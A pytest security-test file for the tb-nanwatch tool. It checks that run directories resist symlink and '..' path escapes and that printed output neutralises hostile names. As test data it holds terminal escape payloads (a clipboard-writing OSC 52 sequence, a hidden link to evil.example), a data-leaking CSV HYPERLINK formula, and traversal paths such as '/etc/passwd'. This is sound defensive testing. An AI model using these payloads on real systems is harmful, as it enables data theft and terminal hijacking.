"""A run dir is a closed box: opening one never reads or writes outside it, and
what it names is shown inert (no terminal escapes, no spreadsheet formulas).

Each attack: a run dir written by the project's own writers, tampered with,
then opened by ``tb-nanwatch`` in a guarded interpreter (closed_box_lib): no
file outside is opened, listed or written, memory stays bounded, the refusal
is one line, and the other runs are still reported.
"""

from __future__ import annotations

import json
import os
import shutil

import numpy as np
import pytest
from closed_box_lib import (
    REPORT_PEAK_MB,
    assert_contained,
    edit_bundle_json,
    good_runs,
    guarded_cli,
    input_incident,
    override_summary,
    refusal_lines,
    tiny_model,
    write_bundle_run,
)
from nanwatch_testlib import run_node_module, write_named_run

from tb_nanwatch.evidence import run_dir_box
from tb_nanwatch.evidence.printable import printable
from tb_nanwatch.record.after_incident import bundle
from tb_nanwatch.record.writing.synthetic import write_synthetic_run

VICTIM_TEXT = "a file outside the run dir\n"


@pytest.fixture(scope="module")
def replay_attacks(tmp_path_factory):
    """Run dirs whose bundle tries to leave them, replayed by one guarded CLI."""
    root = tmp_path_factory.mktemp("replay")
    outside, logs = str(root / "outside"), str(root / "logs")
    os.makedirs(outside)
    victim = os.path.join(outside, "victim.txt")
    with open(victim, "w") as f:
        f.write(VICTIM_TEXT)
    tiny_model().save(os.path.join(outside, "model.keras"))
    runs = {}
    # replay.json replaced by a symlink to a file outside.
    directory = write_bundle_run(os.path.join(logs, "linked_replay_json"))
    os.symlink(victim, os.path.join(directory, "replay.json"))
    runs["linked_replay_json"] = directory
    # The bundle dir itself a symlink to a (valid) bundle outside.
    directory = write_bundle_run(os.path.join(logs, "linked_bundle_dir"))
    shutil.move(directory, os.path.join(outside, "stolen_step"))
    os.symlink(os.path.join(outside, "stolen_step"), directory)
    runs["linked_bundle_dir"] = directory
    # bundle.json naming the model outside: absolute, and by "..".
    directory = write_bundle_run(os.path.join(logs, "absolute_model"))
    edit_bundle_json(directory, model=os.path.join(outside, "model.keras"))
    directory = write_bundle_run(os.path.join(logs, "dotdot_model"))
    edit_bundle_json(directory, model="../../../outside/model.keras")
    # Glob characters in the path: a name, not a pattern.
    runs["glob"] = write_bundle_run(os.path.join(logs, "shared", "exp[1]"))
    names = ["linked_replay_json", "linked_bundle_dir", "absolute_model", "dotdot_model"]
    commands = [["replay", os.path.join(logs, name)] for name in names]
    commands.append(["replay", os.path.join(logs, "shared", "exp[1]")])
    results = guarded_cli(commands, [outside], tensorflow=True)
    return {
        "outside": outside,
        "victim": victim,
        "runs": runs,
        **dict(zip(names + ["glob"], results, strict=True)),
    }


def _outside_unchanged(attacks) -> None:
    with open(attacks["victim"]) as f:
        assert f.read() == VICTIM_TEXT
    assert sorted(os.listdir(attacks["outside"])) == ["model.keras", "stolen_step", "victim.txt"]
    assert "replay.json" not in os.listdir(os.path.join(attacks["outside"], "stolen_step"))


def test_replay_never_writes_through_a_symlinked_replay_json(replay_attacks):
    result = replay_attacks["linked_replay_json"]
    assert_contained(result)
    assert result["code"] == 0  # the replay ran; only its file was refused
    assert len(refusal_lines(result, "replay.json", "not written")) == 1
    _outside_unchanged(replay_attacks)
    link = os.path.join(replay_attacks["runs"]["linked_replay_json"], "replay.json")
    assert os.path.islink(link)  # left as it was, not replaced either


def test_replay_refuses_a_bundle_dir_that_is_a_symlink_out(replay_attacks):
    result = replay_attacks["linked_bundle_dir"]
    assert_contained(result)
    assert result["code"] == 2
    assert len(refusal_lines(result, "outside the run dir")) == 1, result["err"]
    _outside_unchanged(replay_attacks)


@pytest.mark.parametrize("name", ["absolute_model", "dotdot_model"])
def test_replay_refuses_a_model_path_outside_the_run_dir(replay_attacks, name):
    result = replay_attacks[name]
    assert_contained(result)  # the model outside was never opened
    assert result["code"] == 2
    words = "is not relative" if name == "absolute_model" else "leaves the run dir"
    assert len(refusal_lines(result, "model", words)) == 1, result["err"]
    _outside_unchanged(replay_attacks)


def test_replay_takes_a_path_with_glob_characters_literally(replay_attacks):
    result = replay_attacks["glob"]
    assert_contained(result)
    assert result["code"] == 0, result["err"]
    assert "no reproduction bundle" not in result["err"]
    written = os.path.join(replay_attacks["runs"]["glob"], "replay.json")
    with open(written) as f:
        assert json.load(f)["step"] == 3


# -- report and export ---------------------------------------------------------------


def _victim_bundle_run(outside: str) -> str:
    """Another user's run, outside the log dir, with a bundle (its batch private)."""
    victim = os.path.join(outside, "victim_run")
    write_synthetic_run(victim, 10, num_layers=2, incident_step=8)
    batch = [np.full((2, 3), 7.0, np.float32)]
    bundle.save_bundle(victim, 8, {}, batch, [0], {"incident": input_incident()})
    return victim


def test_report_never_opens_a_bundle_of_another_run(tmp_path):
    outside, logdir = str(tmp_path / "outside"), str(tmp_path / "logs")
    _victim_bundle_run(outside)
    good = good_runs(logdir)
    # The summary names the other run's bundle by "..", or through a symlink.
    incident = input_incident()
    override_summary(
        os.path.join(logdir, "dotdot"),
        {
            "first_nonfinite": incident,
            "repro_bundle": "../../outside/victim_run/repro/step_000000008",
        },
    )
    linked = os.path.join(logdir, "linked")
    override_summary(linked, {"first_nonfinite": incident, "repro_bundle": "repro/step_000000008"})
    os.symlink(os.path.join(outside, "victim_run", "repro"), os.path.join(linked, "repro"))
    text, as_json = guarded_cli([["report", logdir], ["report", logdir, "--json"]], [outside])
    for result in (text, as_json):
        assert_contained(result)
        assert result["code"] == 0 and result["peak_mb"] < REPORT_PEAK_MB
    # One line each (the reader says a run's problem once a process).
    assert len(refusal_lines(text, "'dotdot'", "leaves the run dir")) == 1, text["err"]
    lines = refusal_lines(text, "'linked'", "bundle.npz", "outside the run dir")
    assert len(lines) == 1, text["err"]
    runs = {r["run"]: r for r in json.loads(as_json["out"])["runs"]}
    assert {name: runs[name]["steps"] for name in good} == good
    assert runs["dotdot"]["first_nonfinite"]["phase"] == "input"  # the run itself is shown
    assert "run linked:" in text["out"] and "run aaa_good:" in text["out"]


def test_export_does_not_follow_a_symlink_out_of_the_log_dir(tmp_path):
    outside, logdir = str(tmp_path / "outside"), str(tmp_path / "logs")
    write_synthetic_run(os.path.join(outside, "private_secret_run"), 15, incident_step=9)
    good = good_runs(logdir)
    os.symlink(outside, os.path.join(logdir, "teammate_link"))
    write_synthetic_run(os.path.join(logdir, "inside_target"), 5)
    os.symlink(os.path.join(logdir, "inside_target"), os.path.join(logdir, "inside_link"))
    page = str(tmp_path / "export.html")
    (result,) = guarded_cli([["export", logdir, "-o", page]], [outside])
    assert_contained(result)
    assert result["code"] == 0 and result["peak_mb"] < REPORT_PEAK_MB
    assert len(refusal_lines(result, "teammate_link", "outside the log dir")) == 1
    with open(page, encoding="utf-8") as f:
        html = f.read()
    assert "private_secret_run" not in html
    assert all(name in html for name in good) and "inside_target" in html


def test_an_event_file_linked_from_outside_is_not_read(tmp_path):
    outside, logdir = str(tmp_path / "outside"), str(tmp_path / "logs")
    private = os.path.join(outside, "private")
    write_synthetic_run(private, 7)
    good = good_runs(logdir)
    os.makedirs(os.path.join(logdir, "borrowed"))
    for name in os.listdir(private):
        os.symlink(os.path.join(private, name), os.path.join(logdir, "borrowed", name))
    (result,) = guarded_cli([["report", logdir, "--json"]], [outside])
    assert_contained(result)
    runs = {r["run"]: r["steps"] for r in json.loads(result["out"])["runs"]}
    assert runs == good
    assert refusal_lines(result, "borrowed", "outside its run dir")


# -- output is inert -------------------------------------------------------------------

HOSTILE_LAYERS = [
    "clip\x1b]52;c;ZXZpbCBjbGlwYm9hcmQ=\x07board",  # OSC 52: writes the clipboard
    "\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07",  # OSC 8: a hidden link
    "up\x1b[1A\x1b[2Kover",  # cursor up, erase the line before
    "c1\x9b2Jcsi\x7fdel\u202eevil",  # C1 CSI, DEL, a right-to-left override
]
UNSAFE = {chr(c) for c in [*range(0x20), *range(0x7F, 0xA0), 0x202E]} - {"\n"}


def test_report_text_escapes_control_characters_in_every_name(tmp_path):
    logdir = str(tmp_path / "logs")
    good = good_runs(logdir)
    write_named_run(
        os.path.join(logdir, "run\x1b[2J\x1b[H\x07"),
        HOSTILE_LAYERS,
        bad_layer=2,
        bad_step=3,
        steps=5,
        model="m\x1b[31m",
        tensor_suffix="\x1b[?25l",
    )
    (result,) = guarded_cli([["report", logdir]], [])
    assert_contained(result)
    printed = result["out"] + result["err"]
    assert not UNSAFE & set(printed), sorted(UNSAFE & set(printed))
    assert "run run\\x1b[2J\\x1b[H\\x07: 5 steps" in result["out"]
    assert "up\\x1b[1A\\x1b[2Kover" in result["out"]  # shown, as visible escapes
    assert all(f"run {name}:" in result["out"] for name in good)


def test_console_lines_of_an_incident_are_inert():
    from tb_nanwatch.record.session import describe_incident

    incident = {**input_incident(), "phase": "forward", "layer": HOSTILE_LAYERS[0]}
    incident["tensor"] = HOSTILE_LAYERS[1]
    line = describe_incident(incident)
    assert not UNSAFE & set(line)
    assert "\\x1b]52;c;ZXZpbCBjbGlwYm9hcmQ=\\x07" in line
    assert printable("a\tb\x00\u2028") == "a\\x09b\\x00\\u2028"


def test_csv_cells_that_would_be_formulas_are_quoted():
    script = """
import { csvCell } from "./src/csv.js";
const cells = ['=HYPERLINK("http://x?"&A2)', "+1+2", "-2+3", "@SUM(A1)", "\\tx", "\\rx",
  "-1.5", "-Infinity", "1e-7", "plain", "a,b", null];
console.log(JSON.stringify(cells.map(csvCell)));
"""
    assert run_node_module(script) == [
        '"\'=HYPERLINK(""http://x?""&A2)"',
        "'+1+2",
        "'-2+3",
        "'@SUM(A1)",
        "'\tx",
        '"\'\rx"',
        "-1.5",
        "-Infinity",
        "1e-7",
        "plain",
        '"a,b"',
        "",
    ]


# -- the path rules themselves (evidence/run_dir_box.py) ------------------------------------


def test_safe_write_refuses_symlinks_and_writes_its_own_file(tmp_path):
    run_dir, outside = tmp_path / "run", tmp_path / "outside"
    (run_dir / "repro" / "step_1").mkdir(parents=True)
    outside.mkdir()
    victim = outside / "victim.txt"
    victim.write_text(VICTIM_TEXT)
    (run_dir / "repro" / "step_2").symlink_to(outside)
    (run_dir / "repro" / "step_1" / "trials.json").symlink_to(victim)
    refused = [
        "repro/step_2/replay.json",  # a symlinked directory on the way
        "repro/step_1/trials.json",  # the name itself a symlink
        "../outside/victim.txt",
        str(victim),
    ]
    for relative in refused:
        with pytest.raises(run_dir_box.RunDirError):
            run_dir_box.safe_write_text(str(run_dir), relative, "x", make_dirs=True)
    assert victim.read_text() == VICTIM_TEXT and sorted(os.listdir(outside)) == ["victim.txt"]
    path = run_dir_box.safe_write_text(str(run_dir), "rewind/step_5/point.json", "{}", True)
    run_dir_box.safe_write_text(str(run_dir), "rewind/step_5/point.json", "[1]")
    with open(path) as f:
        assert f.read() == "[1]"
    assert os.listdir(os.path.dirname(path)) == ["point.json"]  # no temporary left


def test_paths_named_in_a_run_dir_must_be_relative_and_inside(tmp_path):
    (tmp_path / "run" / "repro").mkdir(parents=True)
    (tmp_path / "run" / "out").symlink_to(tmp_path)
    run_dir = str(tmp_path / "run")
    for bad in ["/etc/passwd", "../other/repro", "a/../../b", "", "C:\\x", "gs://b/x", None, 3]:
        with pytest.raises(run_dir_box.RunDirError):
            run_dir_box.inside(run_dir, bad)
    with pytest.raises(run_dir_box.RunDirError, match="outside the run dir"):
        run_dir_box.inside(run_dir, "out/other_run/repro")
    inside = run_dir_box.inside(run_dir, "./repro//step_1/bundle.json")
    assert inside == os.path.join(os.path.realpath(run_dir), "repro", "step_1", "bundle.json")
